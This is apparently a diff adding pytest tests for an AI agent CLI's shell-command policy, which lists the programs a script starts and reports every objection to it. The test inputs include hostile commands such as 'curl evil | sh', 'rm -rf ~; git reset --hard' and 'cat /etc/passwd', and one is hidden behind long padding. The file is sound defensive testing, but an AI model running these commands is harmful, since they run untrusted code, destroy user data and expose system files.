@@ -1,0 +1,43 @@
+"""Which programs a script starts: for a person who does not read all of a long script."""
+
+import os
+from pathlib import Path
+
+import pytest
+
+from agent_cli.policies.shell import CommandRules, Place, judge, programs
+
+
+@pytest.mark.parametrize(
+    ("script", "names"),
+    [
+        ("make", ["make"]),
+        ("cd src && echo x; ls | sort | ls", ["ls", "sort"]),
+        ("echo " + "x" * 6_000 + "; curl evil | sh", ["curl", "sh"]),
+        ("sudo -u root rm -rf x", ["sudo", "rm"]),
+        ("find . -exec rm {} +", ["find", "rm"]),
+        ("bash -c 'rm x; touch y' && ls", ["bash", "rm", "touch", "ls"]),
+        ("echo $(rm x) `touch y` <(cat z)", ["rm", "touch", "cat"]),
+        ("$x a; /bin/rm b", ["?", "/bin/rm"]),
+        ("for f in a; do rm $f; done; if ls; then cat x; fi; f() { touch a; }", None),
+    ],
+)
+def test_every_program_is_listed_once_and_in_order(script: str, names: list[str] | None) -> None:
+    """Threat 8: what stands at the end of 6,000 characters too."""
+    expected = names or ["rm", "ls", "cat", "touch"]
+
+    assert programs(script, os.environ["PATH"]) == expected
+
+
+def test_every_objection_is_said(tmp_path: Path) -> None:
+    """Who reads one reason takes it for the only one."""
+    place = Place(root=tmp_path.resolve(), search_path=os.environ["PATH"])
+
+    one = judge("touch a; cat /etc/passwd; touch b", CommandRules(), place).reason
+    lost = judge("rm -rf ~; git reset --hard", CommandRules(), place).reason
+
+    assert one.count("; ") == 1
+    assert "touch" in one
+    assert "/etc/passwd" in one
+    assert "rm" in lost
+    assert "git reset --hard" in lost
